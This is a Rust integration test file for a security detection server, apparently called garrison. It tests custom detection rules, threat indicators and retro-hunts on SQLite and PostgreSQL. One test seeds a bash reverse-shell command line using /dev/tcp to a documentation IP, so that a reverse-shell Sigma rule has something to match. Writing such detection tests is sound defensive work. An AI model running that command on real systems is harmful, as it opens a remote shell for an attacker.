//! Custom detections, indicators and retro-hunts, on a movable clock, on SQLite and PostgreSQL.

use crate::core_postgres::Postgres;
use crate::detections_house::{EngineKind, HOUR, House, process};
use garrison_model::{EntityType, EvidenceRole, Severity};
use garrison_server::detection::custom::CustomError;
use garrison_server::detection::custom::definition::{Definition, Frequency, ImpactedEntity};
use garrison_server::detection::indicator::{IndicatorError, IndicatorNew};
use garrison_server::detection::retro::{RetroError, RetroKind, RetroNew, RetroState};
use serde_json::json;
use std::collections::BTreeMap;

const DAY: i64 = 24 * HOUR;

/// A full hour not long ago: the lake believes no time that is far from its own.
fn start() -> i64 {
    garrison_server::now().0 / HOUR * HOUR - 20 * DAY
}

fn definition(name: &str, query: &str, frequency: Frequency) -> Definition {
    Definition {
        name: name.into(),
        query: query.into(),
        frequency,
        alert_title: format!("{name} on {{{{DeviceName}}}}"),
        severity: Severity::High,
        category: "Execution".into(),
        mitre_techniques: vec!["T1059.004".into()],
        description: "It happened.".into(),
        recommended_actions: "Look at it.".into(),
        impacted_entities: vec![
            ImpactedEntity { kind: EntityType::Machine, column: "DeviceId".into() },
            ImpactedEntity { kind: EntityType::User, column: "AccountName".into() },
        ],
        custom_details: BTreeMap::from([("Command".to_owned(), "ProcessCommandLine".to_owned())]),
        actions: Vec::new(),
        enabled: true,
    }
}

async fn open(folder: &tempfile::TempDir, now: i64) -> House {
    House::open(folder.path(), None, now, EngineKind::Finder, 150).await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_window_that_is_over_is_run_once_and_its_events_become_alerts_with_their_evidence() {
    let folder = tempfile::tempdir().unwrap();
    let t = start();
    let house = open(&folder, t).await;
    house.arrive("DeviceProcessEvents", &[process(t - 1, "quiet")]).await;
    let made = house.custom.create(definition("Shell", "find evil", Frequency::Hourly), "alice").await.unwrap();
    assert_eq!(house.custom.run_due().await.unwrap(), 0, "nothing is over yet");
    house.arrive("DeviceProcessEvents", &[process(t + HOUR / 2, "evil one"), process(t + HOUR / 2, "good")]).await;
    house.set(t + HOUR + 1);
    assert_eq!(house.custom.run_due().await.unwrap(), 0, "event time has not passed the window's end");
    house.arrive("DeviceProcessEvents", &[process(t + HOUR, "later")]).await;
    assert_eq!(house.custom.run_due().await.unwrap(), 1);
    assert_eq!(house.custom.run_due().await.unwrap(), 0, "a window is run once");
    let alerts = house.alerts(&made.id).await;
    assert_eq!(alerts.len(), 1);
    let alert = &alerts[0];
    assert_eq!(alert.title, "Shell on web-1");
    assert_eq!(alert.severity, Severity::High);
    assert!(alert.incident_id.0 > 0, "it is in an incident");
    assert_eq!(alert.matches[0].row["ProcessCommandLine"], "evil one", "the event is copied");
    assert_eq!(alert.matches[0].fields[0].field, "Command");
    assert_eq!(alert.matches[0].fields[0].value, "evil one");
    let impacted = |kind| alert.evidence.iter().any(|e| e.entity_type == kind && e.role == EvidenceRole::Impacted);
    assert!(impacted(EntityType::User) && impacted(EntityType::Process));
    // The look-back of the next window holds the event again.
    house.set(t + 2 * HOUR + 1);
    house.arrive("DeviceProcessEvents", &[process(t + 2 * HOUR, "later")]).await;
    assert_eq!(house.custom.run_due().await.unwrap(), 1);
    assert_eq!(house.alerts(&made.id).await.len(), 1, "the same event never alerts twice");
    let runs = house.custom.runs(&made.id, 10).await.unwrap();
    let seen: Vec<_> = runs.iter().map(|r| (r.rows, r.alerts, r.repeated, r.capped)).collect();
    assert_eq!(seen, [(1, 0, 1, false), (1, 1, 0, false)]);
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn restarts_and_clock_steps_lose_no_window_and_repeat_none() {
    let folder = tempfile::tempdir().unwrap();
    let t = start();
    let mut house = open(&folder, t).await;
    house.arrive("DeviceProcessEvents", &[process(t, "quiet")]).await;
    let id = house.custom.create(definition("Shell", "find evil", Frequency::Hourly), "alice").await.unwrap().id;
    let mut rows = 0;
    for (hours, offset) in [(1, 0), (4, 0), (4, 30 * HOUR), (5, -3 * HOUR), (7, 0)] {
        let truth = t + hours * HOUR + 1;
        house.set(truth + offset);
        rows += 1;
        house.arrive("DeviceProcessEvents", &[process(truth - 1, &format!("evil {rows}"))]).await;
        // What the clock of the machine says about the newest row is not believed beyond its own time.
        house.custom.run_due().await.unwrap();
        // The clock and what was seen are written with the stream.
        house.custom.stream_step().await.unwrap();
        house.close().await;
        house = open(&folder, truth + offset).await;
    }
    house.set(t + 7 * HOUR + 1);
    house.custom.event_time_seen(t + 7 * HOUR + 1);
    house.custom.run_due().await.unwrap();
    let runs = house.custom.runs(&id, 50).await.unwrap();
    let mut ends: Vec<String> = runs.iter().map(|r| r.to.clone()).collect();
    ends.sort();
    let expected: Vec<String> =
        (1..=7).map(|n| garrison_server::shared::rfc3339(garrison_model::Micros(t + n * HOUR))).collect();
    assert_eq!(ends, expected);
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_cap_of_alerts_is_told_and_the_rest_comes_with_the_next_run() {
    let folder = tempfile::tempdir().unwrap();
    let t = start();
    let house = House::open(folder.path(), None, t, EngineKind::Finder, 3).await;
    house.arrive("DeviceProcessEvents", &[process(t - 1, "quiet")]).await;
    let id = house.custom.create(definition("Many", "find evil", Frequency::Hourly), "alice").await.unwrap().id;
    let rows: Vec<_> = (0..5).map(|n| process(t + 60_000_000 * (n + 1), &format!("evil {n}"))).collect();
    house.arrive("DeviceProcessEvents", &rows).await;
    house.set(t + 2 * HOUR + 1);
    house.arrive("DeviceProcessEvents", &[process(t + 2 * HOUR, "later")]).await;
    assert_eq!(house.custom.run_due().await.unwrap(), 2);
    let runs = house.custom.runs(&id, 10).await.unwrap();
    let seen: Vec<_> = runs.iter().map(|r| (r.alerts, r.capped)).collect();
    assert_eq!(seen, [(2, false), (3, true)]);
    assert_eq!(house.alerts(&id).await.len(), 5);
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_query_that_fails_is_tried_again_and_then_given_up_with_its_reason() {
    let folder = tempfile::tempdir().unwrap();
    let t = start();
    let house = open(&folder, t).await;
    house.arrive("DeviceProcessEvents", &[process(t - 1, "quiet")]).await;
    let id = house.custom.create(definition("Broken", "burn", Frequency::Hourly), "alice").await.unwrap().id;
    house.arrive("DeviceProcessEvents", &[process(t + HOUR - 1, "a")]).await;
    for pause in [HOUR, 2 * HOUR, 3 * HOUR] {
        // Only the first window is over for event time.
        house.set(t + pause + 1);
        house.custom.event_time_seen(t + HOUR);
        house.custom.run_due().await.unwrap();
    }
    let runs = house.custom.runs(&id, 10).await.unwrap();
    assert_eq!(runs.len(), 1);
    assert_eq!(runs[0].error.as_deref(), Some("the query failed: the engine is on fire"));
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn continuous_detections_see_rows_as_they_arrive_and_after_a_restart_what_came_meanwhile() {
    let folder = tempfile::tempdir().unwrap();
    let t = start();
    let house = open(&folder, t).await;
    let refused = house.custom.create(definition("Joined", "find x | join y", Frequency::Continuous), "alice").await;
    assert!(refused.unwrap_err().to_string().contains("cannot run continuously: `join`"));
    let id = house.custom.create(definition("Live", "find evil", Frequency::Continuous), "alice").await.unwrap().id;
    house.custom.stream_step().await.unwrap();
    house.arrive("DeviceProcessEvents", &[process(t, "evil one"), process(t, "good")]).await;
    house.custom.stream_step().await.unwrap();
    assert_eq!(house.alerts(&id).await.len(), 1);
    // These come in while nobody looks.
    house.set(t + HOUR);
    house.store("DeviceProcessEvents", &[process(t + HOUR, "evil two")]).await;
    house.close().await;
    let house = open(&folder, t + HOUR + 1).await;
    house.custom.stream_step().await.unwrap();
    assert_eq!(house.alerts(&id).await.len(), 2);
    house.custom.stream_step().await.unwrap();
    assert_eq!(house.alerts(&id).await.len(), 2);
    house.close().await;
}

fn known(value: &str, title: &str) -> IndicatorNew {
    IndicatorNew {
        value: value.into(),
        kind: None,
        title: title.into(),
        description: String::new(),
        severity: Severity::Medium,
        action: None,
        expires_time: None,
        retro: false,
    }
}

fn connection(at: i64, address: &str) -> serde_json::Value {
    json!({
        "Timestamp": garrison_server::shared::rfc3339(garrison_model::Micros(at)), "ActionType": "ConnectionSuccess",
        "RemoteIP": address, "RemotePort": 443, "InitiatingProcessFileName": "curl",
        "InitiatingProcessUniqueId": format!("c-{at}"),
    })
}

fn asked(kind: RetroKind, target: &str) -> RetroNew {
    RetroNew { kind, target: target.into(), days: None, alerts: None }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_indicator_is_matched_on_the_stream_and_in_the_past_and_each_event_alerts_once() {
    let folder = tempfile::tempdir().unwrap();
    let t = start();
    let house = open(&folder, t).await;
    house
        .store("DeviceNetworkEvents", &[connection(t - 10 * DAY, "203.0.113.77"), connection(t - DAY, "10.0.0.1")])
        .await;
    let made =
        house.indicators.add(&known("203.0.113.0/24", "Bad range"), "alice", garrison_model::Micros(t)).await.unwrap();
    house.arrive("DeviceNetworkEvents", &[connection(t, "203.0.113.9"), connection(t, "198.51.100.1")]).await;
    assert_eq!(house.alerts(&made.id).await.len(), 1);
    house.set(t + 1);
    let hunt = house.retro.start(&asked(RetroKind::Indicator, &made.id), "alice").await.unwrap();
    assert!(house.retro.run_next().await.unwrap());
    let hunt = house.retro.get(&hunt.id).await.unwrap();
    assert_eq!((hunt.state, hunt.percent, hunt.matches, hunt.alerts), (RetroState::Completed, 100, 2, 1), "{hunt:?}");
    assert_eq!(hunt.rows, 4);
    let alerts = house.alerts(&made.id).await;
    assert_eq!(alerts.len(), 2);
    assert!(alerts.iter().any(|a| a.description.contains("Found in the past by a retro-hunt")));
    assert_eq!(house.retro.matches(&hunt.id).await.unwrap().len(), 2);
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sigma_rule_is_hunted_for_day_by_day_and_goes_on_after_a_restart() {
    let folder = tempfile::tempdir().unwrap();
    let t = start();
    let house = open(&folder, t).await;
    let shell = "bash -c bash -i >& /dev/tcp/198.51.100.4/443 0>&1";
    let mut rows = vec![process(t - 20 * DAY, shell), process(t - 2 * DAY, shell), process(t - DAY, "ls")];
    for row in &mut rows {
        row["FileName"] = json!("bash");
        row["FolderPath"] = json!("/usr/bin/bash");
    }
    house.store("DeviceProcessEvents", &rows).await;
    let loaded = house.detection.loaded();
    let rule =
        loaded.engine.rules().iter().find(|(_, r)| r.source.contains("reverse_shell_dev_tcp")).unwrap().1.id.clone();
    let hunt = house.retro.start(&asked(RetroKind::Rule, &rule), "alice").await.unwrap();
    // The server stops in the middle: the first half of the days has been looked at.
    sqlx::query("UPDATE detection_retro SET state = 'Running', done_to = $1, match_count = 1 WHERE id = $2")
        .bind(t - 15 * DAY)
        .bind(hunt.id.clone())
        .execute(house.shared.db.pool())
        .await
        .unwrap();
    house.close().await;
    let house = open(&folder, t).await;
    assert_eq!(house.retro.get(&hunt.id).await.unwrap().percent, 50);
    assert!(house.retro.run_next().await.unwrap());
    let done = house.retro.get(&hunt.id).await.unwrap();
    assert_eq!((done.state, done.matches, done.alerts), (RetroState::Completed, 2, 1), "{done:?}");
    let alert = &house.alerts(&rule).await[0];
    assert!(alert.matches[0].fields.iter().any(|f| f.column == "ProcessCommandLine"), "it says why");
    // Again from the beginning: what is known makes no second alert.
    let again = house.retro.start(&asked(RetroKind::Rule, &rule), "alice").await.unwrap();
    assert!(house.retro.run_next().await.unwrap());
    let again = house.retro.get(&again.id).await.unwrap();
    assert_eq!((again.matches, again.alerts), (2, 1), "only the day that was passed over is new");
    assert!(!house.retro.run_next().await.unwrap());
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_correlation_is_hunted_for_through_its_rules_in_the_order_of_time() {
    let folder = tempfile::tempdir().unwrap();
    let t = start();
    let house = open(&folder, t).await;
    let path = std::path::PathBuf::from(std::env::var_os("CARGO_MANIFEST_DIR").unwrap());
    let path = path.join("../../content/samples/ssh_password_guessing.json");
    let sample: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let rule = sample["rule"].as_str().unwrap();
    let mut rows: Vec<_> = sample["attack"][0]["rows"].as_array().unwrap().clone();
    for (n, row) in rows.iter_mut().enumerate() {
        row["Timestamp"] =
            json!(garrison_server::shared::rfc3339(garrison_model::Micros(t - 3 * DAY + n as i64 * 4_000_000)));
    }
    // As they lie in the lake they are in no order.
    rows.reverse();
    house.store("DeviceLogonEvents", &rows).await;
    let hunt = house.retro.start(&asked(RetroKind::Rule, rule), "alice").await.unwrap();
    assert!(house.retro.run_next().await.unwrap());
    let done = house.retro.get(&hunt.id).await.unwrap();
    assert_eq!(done.state, RetroState::Completed, "{done:?}");
    assert_eq!(done.matches, rows.len() as i64);
    assert!(done.alerts >= 1, "{done:?}");
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn detections_are_written_in_the_language() {
    let folder = tempfile::tempdir().unwrap();
    let t = start();
    let house = House::open(folder.path(), None, t, EngineKind::Language, 150).await;
    house.arrive("DeviceProcessEvents", &[process(t, "quiet")]).await;
    let columns = "| project Timestamp, ReportId, DeviceId, DeviceName, AccountName, ProcessCommandLine";
    let good = format!("DeviceProcessEvents | where ProcessCommandLine contains 'evil' {columns}");
    for (query, frequency, words) in [
        (good.replace("ReportId, ", ""), Frequency::Hourly, "must return `ReportId`"),
        (good.replace("DeviceId, DeviceName, ", ""), Frequency::Hourly, "`DeviceId` or `DeviceName`"),
        (good.replace("contains", "containz"), Frequency::Hourly, "the query has errors"),
        (format!("{good} | sort by Timestamp desc"), Frequency::Continuous, "look at many rows"),
        (format!("{good} | join (DeviceInfo) on DeviceId"), Frequency::Continuous, "cannot run continuously"),
        (format!("union ({good}), ({good})"), Frequency::Continuous, "cannot run continuously"),
    ] {
        let refused = house.custom.create(definition("Refused", &query, frequency), "alice").await.unwrap_err();
        assert!(refused.to_string().contains(words), "{refused} should say {words}");
    }
    let hourly = house.custom.create(definition("Hourly", &good, Frequency::Hourly), "alice").await.unwrap().id;
    let live = house.custom.create(definition("Live", &good, Frequency::Continuous), "alice").await.unwrap().id;
    house.arrive("DeviceProcessEvents", &[process(t + 60_000_000, "evil one"), process(t, "good")]).await;
    house.set(t + HOUR + 1);
    house.custom.stream_step().await.unwrap();
    let alerts = house.alerts(&live).await;
    assert_eq!(alerts.len(), 1, "{:?}", alerts.iter().map(|a| (&a.id, &a.matches)).collect::<Vec<_>>());
    house.arrive("DeviceProcessEvents", &[process(t + HOUR, "later")]).await;
    assert_eq!(house.custom.run_due().await.unwrap(), 1);
    let alerts = house.alerts(&hourly).await;
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].title, "Hourly on web-1");
    assert_eq!(alerts[0].matches[0].row["ProcessCommandLine"], "evil one");
    let tested = house.custom.test(&definition("Tested", &good, Frequency::Hourly)).await.unwrap();
    assert_eq!((tested.rows, tested.alerts), (1, 1));
    house.close().await;
}

/// What must hold on every database.
async fn stores_hold(database: Option<&str>) {
    let folder = tempfile::tempdir().unwrap();
    let t = start();
    let house = House::open(folder.path(), database, t, EngineKind::Finder, 150).await;
    let custom = &house.custom;
    house.arrive("DeviceProcessEvents", &[process(t, "quiet")]).await;
    let first = custom.create(definition("Shell", "find evil", Frequency::Daily), "alice").await.unwrap();
    let name = custom.create(definition(" SHELL ", "find evil", Frequency::Daily), "bob").await;
    assert!(matches!(name, Err(CustomError::NameTaken)), "names differ in more than case");
    let mut other = definition("Other", "find evil", Frequency::Daily);
    other.alert_title.clone_from(&first.definition.alert_title);
    assert!(matches!(custom.create(other.clone(), "bob").await, Err(CustomError::TitleTaken)));
    other.alert_title = "Another".into();
    let second = custom.create(other.clone(), "bob").await.unwrap();
    assert_eq!(custom.list().await.unwrap().len(), 2);
    other.description = "Changed.".into();
    let changed = custom.update(&second.id, other, "carol").await.unwrap();
    assert_eq!((changed.definition.description.as_str(), changed.updated_by.as_str()), ("Changed.", "carol"));
    let off = custom.switch(&second.id, false, "carol").await.unwrap();
    assert_eq!(off.next_run_time, None);
    let run = custom.run_now(&second.id).await.unwrap();
    assert_eq!(run.rows, 0);
    assert_eq!(custom.get(&second.id).await.unwrap().last_run.map(|r| r.id), Some(run.id));
    custom.remove(&second.id).await.unwrap();
    assert!(matches!(custom.get(&second.id).await, Err(CustomError::Unknown)));
    assert!(matches!(custom.remove("nothing").await, Err(CustomError::Unknown)));

    let now = garrison_model::Micros(t);
    let indicators = &house.indicators;
    let one = indicators.add(&known("Evil.example", "Bad name"), "alice", now).await.unwrap();
    assert!(matches!(
        indicators.add(&known("evil.example", "Again"), "bob", now).await,
        Err(IndicatorError::Exists(_))
    ));
    let block = IndicatorNew { action: Some("block".into()), ..known("198.51.100.1", "Bad") };
    let refused = indicators.add(&block, "bob", now).await.unwrap_err();
    assert!(refused.to_string().contains("takes effect with response"));
    let late = IndicatorNew { expires_time: Some("2001-01-01T00:00:00Z".into()), ..known("198.51.100.1", "Bad") };
    assert!(matches!(indicators.add(&late, "bob", now).await, Err(IndicatorError::Expiry)));
    assert_eq!(indicators.list().await.unwrap().len(), 1);

    let retro = &house.retro;
    let unknown = retro.start(&asked(RetroKind::Rule, "nothing"), "alice").await;
    assert!(matches!(unknown, Err(RetroError::Target { .. })));
    let hunt = retro.start(&asked(RetroKind::Indicator, &one.id), "alice").await.unwrap();
    assert_eq!((hunt.state, hunt.percent), (RetroState::Queued, 0));
    assert_eq!(retro.cancel(&hunt.id).await.unwrap().state, RetroState::Cancelled);
    assert!(matches!(retro.cancel(&hunt.id).await, Err(RetroError::Ended)));
    assert!(!retro.run_next().await.unwrap(), "a cancelled hunt is not run");
    let hunt = retro.start(&asked(RetroKind::Detection, &first.id), "alice").await.unwrap();
    house.store("DeviceProcessEvents", &[process(t - DAY, "evil past")]).await;
    assert!(retro.run_next().await.unwrap());
    let done = retro.get(&hunt.id).await.unwrap();
    assert_eq!((done.state, done.matches, done.alerts), (RetroState::Completed, 1, 1), "{done:?}");
    assert_eq!(retro.matches(&hunt.id).await.unwrap()[0].row["ProcessCommandLine"], "evil past");
    assert_eq!(retro.list().await.unwrap().len(), 2);
    indicators.remove(&one.id).await.unwrap();
    assert!(matches!(indicators.remove(&one.id).await, Err(IndicatorError::Unknown)));
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn detections_indicators_and_hunts_are_kept_in_sqlite() {
    stores_hold(None).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn detections_indicators_and_hunts_are_kept_in_postgresql() {
    let Some(postgres) = Postgres::start() else {
        println!("skipped because PostgreSQL is not installed");
        return;
    };
    stores_hold(Some(&postgres.url())).await;
}
